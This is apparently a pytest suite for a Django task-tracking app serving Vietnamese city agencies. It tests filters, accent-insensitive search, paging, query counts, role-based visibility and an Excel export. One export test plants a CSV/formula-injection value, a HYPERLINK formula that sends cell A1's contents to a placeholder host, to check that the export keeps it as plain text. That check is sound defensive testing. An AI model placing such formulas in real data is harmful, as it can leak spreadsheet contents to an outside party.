"""The task list (/tasks/): filters, accent-insensitive search, sorting, paging, query counts, and the Excel export."""

import datetime
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from agencies.models import Agency
from agencies.text import fold
from tasks.models import Assignment, Task
from tasks.status import Status

from ..html import find, find_all
from .conftest import (
    BAC_GIANG,
    CITY,
    CONG_AN,
    Y_TE,
    agency,
    due_soon_by_the_rules,
    listed,
    listed_pks,
    names_agency,
    programme,
    section,
    status_by_the_rules,
    synthetic_tasks,
    visible_by_the_rules,
)

# Measured, and the same for 10 and for 500 extra tasks: session, user, role groups, profile, agency, the count,
# the filter form's programme and agency choices (one list for lead and support), the page of tasks, their
# assignments with agencies, their phases, the bell's unread notifications. A programme chosen adds its check and
# its sections and phases offered.
LIST_QUERIES = {"chqs": 14, "congan": 12}
PROGRAMME_CHOSEN = 3
# Session, user, role groups, profile and agency, the tasks, their assignments with agencies, their phases.
EXPORT_QUERIES = 10
SEEN_BEFORE = {"chqs": 37, "congan": 33}  # the synthetic tasks are led by Công an in the city programme

HEADERS = [
    "Chương trình",
    "Mục",
    "TT",
    "Nội dung nhiệm vụ",
    "Cơ quan chủ trì",
    "Cơ quan phối hợp",
    "Thời gian thực hiện",
    "Hạn",
    "Sản phẩm",
    "Tình trạng",
    "%",
]


def refs(tasks):
    return sorted(f"{t.section.numeral}.{t.number}" for t in tasks)


def get_list(client, **params):
    return client.get(reverse("tasks:list"), params)


def visible_tasks():
    """Every task: leadership sees them all."""
    return visible_by_the_rules("lanhdao")


# Filters


def test_without_filters_leadership_sees_both_programmes_in_document_order(lanhdao):
    shown = listed(get_list(lanhdao))
    assert len(shown) == 42
    # Programmes follow their own ordering (newest year, then number: "/KH-KHCN" before "04/CTr-UBND"),
    # then sections and tasks in the order of the document.
    assert [(t.section.programme.number, f"{t.section.numeral}.{t.number}") for t in shown[4:7]] == [
        (BAC_GIANG, "II.2"),
        (CITY, "I.1"),
        (CITY, "I.2"),
    ]
    assert [f"{t.section.numeral}.{t.number}" for t in shown[-3:]] == ["IX.4", "X.1", "X.2"]


def test_programme_filter(lanhdao):
    response = get_list(lanhdao, programme=programme(BAC_GIANG).pk)
    assert refs(listed(response)) == ["I.1", "I.2", "I.3", "II.1", "II.2"]
    assert response.context["table"].paginator.count == 5


def test_section_filter(lanhdao):
    shown = listed(get_list(lanhdao, section=section(CITY, "V").pk))
    assert refs(shown) == ["V.1", "V.2", "V.3", "V.4", "V.5", "V.6"]


def test_lead_filter_includes_tasks_led_through_a_group_phrase(lanhdao):
    y_te = agency(Y_TE)
    shown = listed(get_list(lanhdao, lead=y_te.pk))
    assert {t.pk for t in shown} == {t.pk for t in visible_tasks() if names_agency(t, y_te, Assignment.Role.LEAD)}
    assert "VIII.5" in refs(shown)  # "Phòng Y tế", named directly
    assert "I.5" in refs(shown)  # "Các phòng, ban, cơ quan, đơn vị, địa phương"
    assert "V.5" not in refs(shown)  # Y tế only supports it, through the group
    assert "I.1" not in refs(shown)  # led by Ban CHQS thành phố


def test_support_filter_includes_tasks_supported_through_a_group_phrase(lanhdao):
    cong_an = agency(CONG_AN)
    shown = listed(get_list(lanhdao, support=cong_an.pk))
    expected = {t.pk for t in visible_tasks() if names_agency(t, cong_an, Assignment.Role.SUPPORT)}
    assert {t.pk for t in shown} == expected
    assert {"II.1", "V.5"} <= set(refs(shown))  # named directly; through the group
    assert "IX.2" not in refs(shown)  # Phòng Tài nguyên & Môi trường alone
    assert "I.3" not in refs(shown)  # the communes' military commands, not Công an


@pytest.mark.parametrize("status", Status.values)
def test_status_filter_matches_the_status_rules(lanhdao, varied_progress, status):
    expected = {t.pk for t in visible_tasks() if status_by_the_rules(t) == status}
    assert expected, "the fixture must give every status at least one task"
    response = get_list(lanhdao, status=status)
    assert set(listed_pks(response)) == expected


def test_status_filter_examples(lanhdao, varied_progress):
    assert varied_progress["done_late"].pk in listed_pks(get_list(lanhdao, status=Status.DONE_LATE))
    assert varied_progress["supported"].pk in listed_pks(get_list(lanhdao, status=Status.IN_PROGRESS_OVERDUE))
    assert varied_progress["future"].pk in listed_pks(get_list(lanhdao, status=Status.NOT_STARTED_OVERDUE))
    assert varied_progress["same_day"].pk in listed_pks(get_list(lanhdao, status=Status.IN_PROGRESS_OVERDUE))


def test_deadline_filter_overdue(lanhdao, varied_progress):
    expected = {t.pk for t in visible_tasks() if status_by_the_rules(t).is_overdue}
    shown = set(listed_pks(get_list(lanhdao, deadline="overdue")))
    assert shown == expected
    assert varied_progress["in_progress_overdue"].pk in shown
    assert varied_progress["done_late"].pk not in shown  # done late is done, not overdue


def test_deadline_filter_due_soon(lanhdao, varied_progress):
    expected = {t.pk for t in visible_tasks() if due_soon_by_the_rules(t)}
    shown = set(listed_pks(get_list(lanhdao, deadline="due_soon")))
    assert shown == expected
    assert varied_progress["due_soon"].pk in shown
    assert varied_progress["in_progress_on_time"].pk in shown  # due today
    assert varied_progress["in_progress_overdue"].pk not in shown  # due yesterday


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("recurring", ["VII.2", "X.1"]),
        ("due_date", ["I.1", "I.2", "I.3", "I.4"]),
    ],
)
def test_schedule_kind_filter(chqs, kind, expected):
    assert refs(listed(get_list(chqs, schedule_kind=kind))) == expected


def test_filters_combine_and_stay_within_what_the_user_may_see(congan):
    # Bắc Giang's programme is not offered to an officer of the city: asked for anyway, it is an invalid value,
    # ignored as any other, and still none of its tasks is listed.
    response = get_list(congan, programme=programme(BAC_GIANG).pk)
    assert "programme" in response.context["filter"].errors
    assert BAC_GIANG not in {t.section.programme.number for t in listed(response)}
    shown = listed(get_list(congan, section=section(CITY, "V").pk, lead=agency(CONG_AN).pk))
    assert refs(shown) == ["V.4", "V.5"]


def test_an_invalid_filter_value_is_ignored_not_an_error(chqs):
    response = get_list(chqs, status="bogus", programme="abc")
    assert len(listed(response)) == 37
    assert response.context["filter"].errors


# Search


def searched(client, q):
    return set(listed_pks(get_list(client, q=q)))


FIELDS = ["content", "lead_as_written", "support_as_written", "deliverable"]


def holding(*typed, folded=True):
    """The oracle: tasks with every typed word, as a whole word, in one field (without accents if `folded`)."""
    turn = fold if folded else str.lower
    wanted = {turn(word) for word in typed}
    return {
        t.pk
        for t in Task.objects.all()
        if any(wanted <= set(re.findall(r"[^\W_]+", turn(getattr(t, field)))) for field in FIELDS)
    }


def test_search_ignores_accents_and_case_when_typed_without_them(lanhdao):
    found = searched(lanhdao, "phong thu")
    assert found == searched(lanhdao, "PHONG Thu")
    assert found == holding("phong", "thu")
    assert len(found) == 23
    # "phòng" in one field and "thu" in another ("Các phòng, ban, ..." beside "thu thập") is no match.
    apart = {pk for pk in holding("phong") & holding("thu") if pk not in found}
    assert apart
    assert not searched(lanhdao, "phong thuxyz")


def test_search_typed_with_accents_wants_those_accents(lanhdao):
    found = searched(lanhdao, "PHÒNG THỦ")
    assert found == searched(lanhdao, "Phòng Thủ") == holding("phòng", "thủ", folded=False)
    assert len(found) == 23
    assert found <= searched(lanhdao, "phong thu")


def test_search_for_an_ninh_mang(lanhdao):
    expected = holding("an", "ninh", "mang")
    shown = listed(get_list(lanhdao, q="an ninh mang"))
    assert {t.pk for t in shown} == expected
    assert refs(shown) == ["IX.3", "V.5", "VII.4", "VIII.4"]


def test_search_needs_every_word(lanhdao):
    assert refs(listed(get_list(lanhdao, q="an ninh mạng"))) == ["IX.3", "V.5", "VII.4", "VIII.4"]
    assert refs(listed(get_list(lanhdao, q="sự cố AN NINH mang"))) == ["IX.3", "V.5", "VIII.4"]
    assert refs(listed(get_list(lanhdao, q="BẢO VỆ an ninh mang"))) == ["V.5"]
    assert listed(get_list(lanhdao, q="an ninh mạng xyzzy")) == []


def test_search_finds_the_letter_d_with_stroke(lanhdao):
    # "đ" is not an accented "d" to Unicode: the folding must map it by hand.
    shown = set(listed_pks(get_list(lanhdao, q="DIEN TAP")))
    assert shown == holding("dien", "tap")
    assert shown


# Sorting and paging


def deadlines(tasks):
    return [t.deadline for t in tasks if t.deadline is not None]


def test_sorting_by_deadline(chqs):
    default = deadlines(listed(get_list(chqs)))
    assert default != sorted(default)  # document order is not deadline order, so the sort has work to do
    ascending = deadlines(listed(get_list(chqs, sort="deadline")))
    descending = deadlines(listed(get_list(chqs, sort="-deadline")))
    assert ascending == sorted(default)
    assert descending == sorted(default, reverse=True)


@pytest.mark.parametrize("sort", ["deadline", "-deadline"])
def test_tasks_without_a_deadline_come_last_either_way(chqs, sort):
    shown = [t.deadline for t in listed(get_list(chqs, sort=sort))]
    undated = shown.count(None)
    assert 0 < undated < len(shown), "the city programme has tasks with and without a deadline"
    assert shown[-undated:] == [None] * undated


def test_sorting_by_reference_is_document_order_not_text_order(chqs):
    # "X.1" would sort before "V.1" as text; the TT column sorts by section position.
    shown = [f"{t.section.numeral}.{t.number}" for t in listed(get_list(chqs, sort="-ref"))]
    assert shown[:3] == ["X.2", "X.1", "IX.4"]


def test_page_two_exists_past_fifty_rows(chqs):
    synthetic_tasks(20)  # 37 + 20 = 57 rows
    first = get_list(chqs)
    assert first.context["table"].paginator.num_pages == 2
    assert len(listed(first)) == 50
    assert 'class="page-link" href="?page=2"' in first.content.decode()
    second = get_list(chqs, page=2)
    assert len(listed(second)) == 7
    assert not set(listed_pks(first)) & set(listed_pks(second))


def test_fifty_rows_or_fewer_make_one_page(chqs):
    response = get_list(chqs, page=2)  # 37 rows: a page past the end shows the last page, not an error
    assert response.context["table"].paginator.num_pages == 1
    assert response.context["table"].page.number == 1
    assert 'class="pagination' not in response.content.decode()


def test_paging_keeps_the_filters(chqs):
    synthetic_tasks(60)
    response = get_list(chqs, q="nhiem vu thu", schedule_kind="due_date")
    assert response.context["table"].paginator.count == 60
    html = response.content.decode()
    assert 'href="?q=nhiem+vu+thu&amp;schedule_kind=due_date&amp;page=2"' in html
    second = get_list(chqs, q="nhiem vu thu", schedule_kind="due_date", page=2)
    assert [t.number for t in listed(second)] == [str(n) for n in range(51, 61)]


def test_the_pager_speaks_vietnamese(chqs):
    synthetic_tasks(60)
    html = get_list(chqs, page=2).content.decode()
    assert 'class="pagination' in html
    assert not re.search(r">\s*(next|previous)\s*<", html)


# Query counts


def test_control_characters_in_a_task_are_left_out_of_the_export(chqs, police_task):
    # A text file can carry them into a task; XML, and so .xlsx, has no place for them.
    police_task.content = "An ninh mạng\x01 và\x1b phòng thủ"
    police_task.deliverable = "\x08=1+1"
    police_task.save()
    sheet = exported(chqs, q="an ninh mang va phong thu")
    row = next(sheet.iter_rows(min_row=2))
    assert row[3].value == "An ninh mạng và phòng thủ"
    assert (row[8].value, row[8].data_type) == ("=1+1", "s")


@pytest.mark.parametrize("filters", ["none", "search", "programme"])
@pytest.mark.parametrize("extra", [10, 500])
@pytest.mark.parametrize("persona", ["chqs", "congan"])
def test_query_count_does_not_grow_with_the_tasks(request, django_assert_num_queries, persona, extra, filters):
    client = request.getfixturevalue(persona)
    synthetic_tasks(extra)
    params = {"none": {}, "search": {"q": "phong thu"}, "programme": {"programme": programme(CITY).pk}}[filters]
    expected = LIST_QUERIES[persona] + (PROGRAMME_CHOSEN if filters == "programme" else 0)
    with django_assert_num_queries(expected):
        response = get_list(client, **params)
    assert response.status_code == 200
    if filters == "none":
        assert len(listed(response)) == min(50, SEEN_BEFORE[persona] + extra)
    else:  # the synthetic tasks are about "phòng thủ dân sự", in the city programme
        assert len(listed(response)) == 50 if extra == 500 else len(listed(response)) > extra


# Excel export


def exported(client, **params):
    response = client.get(reverse("tasks:export"), params)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="nhiem-vu-')
    return load_workbook(io.BytesIO(response.content)).active


def test_export_has_a_header_row_and_one_row_per_filtered_task(chqs):
    sheet = exported(chqs, schedule_kind="recurring")
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert [(row[0], row[1], row[2]) for row in rows[1:]] == [(CITY, "VII", "2"), (CITY, "X", "1")]
    assert all(row[9] == "Thường xuyên" for row in rows[1:])


def test_export_follows_every_filter_and_the_user_s_visibility(chqs, congan, lanhdao):
    assert exported(lanhdao).max_row == 1 + 42
    assert exported(chqs).max_row == 1 + 37
    assert exported(congan).max_row == 1 + 33
    assert exported(lanhdao, q="an ninh mang").max_row == 1 + 4
    assert exported(congan, programme=programme(BAC_GIANG).pk).max_row == 1 + 33  # not offered: ignored


def test_export_cells_as_written(chqs, police_task):
    sheet = exported(chqs, q="an ninh mang", lead=agency(CONG_AN).pk, section=police_task.section.pk)
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 1
    row = rows[0]
    assert row[3] == police_task.content
    assert row[4] == "Công an thành phố"
    assert row[5] == "Các phòng, ban, cơ quan, đơn vị, địa phương"
    assert row[6] == "x"
    assert row[7] == datetime.datetime(2025, 12, 31)  # a real date cell, not text
    assert row[9] == "Chưa thực hiện (quá hạn)"
    assert row[10] == 0


def test_export_never_writes_a_formula(chqs):
    city_section = section(CITY, "X")
    sneaky = Task.objects.create(
        section=city_section,
        position=99,
        number="99",
        content='=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
        lead_as_written="@SUM(1+1)",
        support_as_written="+84 208 3855 555",
        deliverable="-1+2",
        schedule_kind="ongoing",
    )
    Assignment.objects.create(task=sneaky, agency=Agency.objects.get(name=CONG_AN), role="lead", position=1)
    sheet = exported(chqs, q="bam vao day")
    assert sheet.max_row == 2
    cells = {c.column_letter: c for c in sheet[2]}
    for column, text in [("D", sneaky.content), ("E", "@SUM(1+1)"), ("F", "+84 208 3855 555"), ("I", "-1+2")]:
        assert cells[column].value == text
        assert cells[column].data_type == "s", f"column {column} became a formula"


@pytest.mark.parametrize("extra", [10, 500])
def test_export_query_count_does_not_grow_with_the_tasks(chqs, django_assert_max_num_queries, extra):
    synthetic_tasks(extra)
    with django_assert_max_num_queries(EXPORT_QUERIES) as queries:
        sheet = exported(chqs)
    assert len(queries.captured_queries) == EXPORT_QUERIES
    assert sheet.max_row == 1 + 37 + extra


def test_rows_per_page_are_capped(chqs):
    synthetic_tasks(250)
    response = chqs.get("/tasks/", {"per_page": 100000})
    assert response.status_code == 200
    assert len(response.context["table"].page.object_list) == 200


@pytest.mark.parametrize("per_page", [-1, -50])
def test_a_negative_page_size_gives_the_usual_page(chqs, per_page):
    synthetic_tasks(60)
    response = chqs.get("/tasks/", {"per_page": per_page})
    assert response.status_code == 200
    assert len(response.context["table"].page.object_list) == 50


@pytest.mark.parametrize("persona", ["chqs", "congan"])
def test_the_filters_offer_only_what_the_user_sees(request, lanhdao, persona):
    """Neither Ban CHQS thành phố nor Công an sees the Bắc Giang plan: none of its programme, sections, phases
    or agencies is offered (leadership sees everything, so it is offered there)."""
    bac_giang = programme(BAC_GIANG)
    only_there = Agency.objects.filter(assignments__task__section__programme=bac_giang).exclude(
        assignments__task__section__programme__number=CITY
    )
    hidden = [str(bac_giang), *(str(s) for s in bac_giang.sections.all()), *(a.name for a in only_there)]
    assert len(hidden) > 3
    response = get_list(request.getfixturevalue(persona))
    fields = response.context["filter"].form.fields
    assert bac_giang not in fields["programme"].queryset
    assert not fields["section"].queryset.filter(programme=bac_giang).exists()
    assert not fields["phase"].queryset.filter(programme=bac_giang).exists()
    html = response.content.decode()
    assert [text for text in hidden if text in html] == []
    if persona == "congan":  # its own agency, named directly or through a group phrase, is offered
        assert fields["lead"].queryset.filter(name=CONG_AN).exists()
    everything = get_list(lanhdao).content.decode() + get_list(lanhdao, programme=bac_giang.pk).content.decode()
    assert [text for text in hidden if text not in everything] == []


def offered(response, name):
    return [option.text for option in find_all(response, f'//select[@name="{name}"]/option') if option.get("value")]


def test_sections_and_phases_are_offered_for_the_programme_chosen(lanhdao):
    assert offered(get_list(lanhdao), "section") == offered(get_list(lanhdao), "phase") == []
    city = programme(CITY)
    response = get_list(lanhdao, programme=city.pk)
    assert offered(response, "section") == [str(s) for s in city.sections.all()]
    assert offered(response, "phase") == [str(p) for p in city.phases.all()]
    # A section chosen alone (a link from elsewhere) offers itself, chosen.
    chosen = section(CITY, "V")
    response = get_list(lanhdao, section=chosen.pk)
    assert offered(response, "section") == [str(chosen)]
    assert find(response, '//select[@name="section"]/option[@selected]').get("value") == str(chosen.pk)
